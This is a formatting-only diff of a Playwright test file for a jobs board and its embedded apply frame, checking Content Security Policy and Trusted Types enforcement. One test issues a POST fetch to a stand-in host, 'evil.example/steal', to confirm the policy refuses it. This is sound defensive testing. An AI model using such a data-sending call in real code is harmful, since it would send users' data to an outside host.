@@ -16,7 +16,10 @@ function consoleErrors(page: Page): string[] {
   return seen;
 }
 
-test('a board page and its inline apply, captcha included, under the headers: no violation from start to confirmation', async ({ page, host }) => {
+test('a board page and its inline apply, captcha included, under the headers: no violation from start to confirmation', async ({
+  page,
+  host,
+}) => {
   const errors = consoleErrors(page);
   const res = await page.goto(`${JOBS}/harbor`);
   const headers = res!.headers();
@@ -58,7 +61,9 @@ test('a job page with its JSON-LD, written through Trusted Types, and filters in
 test('the apply frame on a host page (no captcha: Trusted Types enforced): the whole flow, no violation', async ({ page, host }) => {
   const errors = consoleErrors(page);
   await openHostPage(page, `<div data-svc-jobs="acme" data-apply="inline"></div>${SNIPPET}`);
-  const item = board(page).getByRole('listitem').filter({ has: page.locator('a[href$="/eng-5q3w6"]') });
+  const item = board(page)
+    .getByRole('listitem')
+    .filter({ has: page.locator('a[href$="/eng-5q3w6"]') });
   const frameResponse = page.waitForResponse((r) => r.url().includes('/embed/apply?'));
   await item.getByRole('button', { name: /^Apply for / }).click();
   const csp = (await frameResponse).headers()['content-security-policy'];
@@ -90,7 +95,10 @@ test('the policy is real: what it forbids in the frame and on the board page is 
     } catch {
       sink = 'refused';
     }
-    const fetched = await fetch('https://evil.example/steal', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
+    const fetched = await fetch('https://evil.example/steal', { method: 'POST', body: 'x' }).then(
+      () => 'sent',
+      () => 'refused',
+    );
     await new Promise((r) => setTimeout(r, 200));
     return { sink, fetched };
   });
